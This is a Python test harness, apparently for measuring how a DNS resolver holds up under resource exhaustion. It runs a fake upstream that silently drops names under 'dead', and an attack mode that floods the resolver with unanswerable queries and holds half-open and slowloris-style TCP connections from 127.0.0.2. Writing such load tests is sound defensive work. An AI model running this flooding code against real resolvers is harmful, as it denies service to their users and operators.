"""A client that takes all it can of a resolver, and the upstream behind: programs for a test.

``python starving.py upstream PORT`` answers NXDOMAIN, but no name with the label ``dead``.
``python starving.py attack PORT RATE HALF SLOW`` asks from 127.0.0.2, until its input ends: RATE
queries a second for dead names, HALF connections that send one octet, and SLOW ones that ask for
much, read nothing, and send an octet now and then; those that are closed are opened again.
"""

from __future__ import annotations

import contextlib
import itertools
import select
import socket
import struct
import sys
import time
from collections.abc import Callable

ATTACKER = "127.0.0.2"
_TURN = 0.01  # seconds


def query(name: str, id_: int) -> bytes:
    """Return a query for the address of a name."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", id_, 0x0100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


def serve(port: int) -> None:
    """Answer until the input ends."""
    with socket.socket(type=socket.SOCK_DGRAM) as udp:
        udp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
        udp.bind(("127.0.0.1", port))
        print("ready", flush=True)
        while True:
            readable, _, _ = select.select([udp, sys.stdin], [], [])
            if sys.stdin in readable:
                return
            octets, client = udp.recvfrom(4096)
            if b"\4dead" not in octets:
                udp.sendto(octets[:2] + b"\x81\x83" + octets[4:], client)


class _Connections:
    """Connections that are kept open, whatever the server thinks of it."""

    def __init__(self, port: int, count: int, begin: bytes, more: Callable[[int], bytes]) -> None:
        self._port, self._begin, self._more = port, begin, more
        self._open: list[socket.socket | None] = [None] * count
        self._next = itertools.cycle(range(count))

    def turn(self, count: int) -> None:
        """Look after some of them."""
        for at in itertools.islice(self._next, min(count, len(self._open))):
            client = self._open[at]
            try:
                if client is None:
                    self._open[at] = client = socket.socket()
                    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
                    client.bind((ATTACKER, 0))
                    client.settimeout(0.05)
                    client.connect(("127.0.0.1", self._port))
                    client.setblocking(False)
                    client.sendall(self._begin)
                client.send(self._more(at))
            except BlockingIOError:
                pass
            except OSError:
                if client is not None:
                    client.close()
                self._open[at] = None


def attack(port: int, rate: int, half: int, slow: int) -> None:
    """Attack until the input ends."""
    asked = query("www.slow.example", 7)
    framed = struct.pack("!H", len(asked)) + asked
    kinds = [
        _Connections(port, half, b"\0", lambda _: b""),
        _Connections(port, slow, framed * 100, lambda at: framed[at % 2 :][:1]),
    ]
    numbers = itertools.count()
    with socket.socket(type=socket.SOCK_DGRAM) as udp:
        udp.bind((ATTACKER, 0))
        udp.connect(("127.0.0.1", port))
        udp.setblocking(False)
        print("ready", flush=True)
        begun, sent = time.monotonic(), 0
        while not select.select([sys.stdin], [], [], _TURN)[0]:
            due = min(int((time.monotonic() - begun) * rate) - sent, rate)
            for number in itertools.islice(numbers, due):
                with contextlib.suppress(OSError):
                    udp.send(query(f"n{number}.dead.example", number & 0xFFFF))
            sent += due
            for kind in kinds:
                kind.turn(20)
        print(int(sent / (time.monotonic() - begun)), flush=True)


if __name__ == "__main__":
    numbers = [int(text) for text in sys.argv[2:]]
    if sys.argv[1] == "upstream":
        serve(*numbers)
    else:
        attack(*numbers)
